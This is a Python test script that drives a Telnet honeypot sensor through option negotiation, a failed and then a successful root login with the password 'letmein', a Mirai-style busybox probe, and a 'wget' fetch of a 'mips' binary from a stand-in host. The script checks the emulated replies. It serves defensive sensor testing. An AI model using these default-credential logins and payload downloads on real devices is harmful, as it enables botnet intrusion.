"""telnet_session.py — a scripted Telnet conversation for the sensor tests.

usage: telnet_session.py PORT
Speaks to the sensor like a Telnet client that negotiates (DO ECHO,
DO SGA, WILL NAWS with a 100x40 window, WILL TTYPE answering XTERM),
fails one login, logs in, runs commands and exits; checks the server's
offers and answers byte for byte and what the shell prints.  Exit 0 when
every check holds, 1 with the failures on stderr.
"""
import socket
import sys
import time

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
failures = []
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)


def read_until(marker, secs=10):
    buf, end = b"", time.time() + secs
    while marker not in buf and time.time() < end:
        try:
            d = s.recv(4096)
        except socket.timeout:
            break
        if not d:
            break
        buf += d
    if marker not in buf:
        failures.append("no %r in %r" % (marker, buf))
    return buf


def check(cond, what):
    if not cond:
        failures.append(what)


greeting = read_until(b"login: ")
check(greeting.startswith(bytes([IAC, WILL, 1, IAC, WILL, 3, IAC, DO, 31,
                                 IAC, DO, 24])),
      "offers: %r" % greeting[:12])
check(b"Ubuntu" in greeting, "banner")
s.sendall(bytes([IAC, DO, 1, IAC, DO, 3, IAC, WILL, 31,
                 IAC, SB, 31, 0, 100, 0, 40, IAC, SE,
                 IAC, WILL, 24, IAC, DO, 99]))
s.sendall(b"root\r\n")
got = read_until(b"Password: ")
# asked for the terminal type; option 99 refused
check(bytes([IAC, SB, 24, 1, IAC, SE]) in got, "TTYPE SEND: %r" % got)
check(bytes([IAC, WONT, 99]) in got, "WONT 99: %r" % got)
s.sendall(bytes([IAC, SB, 24, 0]) + b"XTERM" + bytes([IAC, SE]))
s.sendall(b"root\r\n")
got = read_until(b"login: ")
check(b"Login incorrect" in got, "refused login")
check(b"root" not in got.split(b"Login")[0], "password echoed")
s.sendall(b"root\r\n")
read_until(b"Password: ")
s.sendall(b"letmein\r\n")
got = read_until(b"# ")
check(got.endswith(b"root@svr04:~# "), "prompt: %r" % got[-20:])
s.sendall(b"cd /tmp; /bin/busybox ECCHI\r\n")
got = read_until(b"/tmp# ")
check(b"ECCHI: applet not found" in got, "busybox: %r" % got)
# typed with a typo corrected by backspace, CR NUL line end
s.sendall(b"wgetx\x7f http://203.0.113.50/mips; touch /tmp/pwned-telnet\r\x00")
got = read_until(b"/tmp# ")
check(b"Connecting to 203.0.113.50... failed" in got, "wget: %r" % got)
s.sendall(b"exit\r\n")
rest = b""
try:
    while True:
        d = s.recv(4096)
        if not d:
            break
        rest += d
except socket.timeout:
    failures.append("the sensor did not close after exit")
s.close()
for f in failures:
    print("FAIL:", f, file=sys.stderr)
sys.exit(1 if failures else 0)
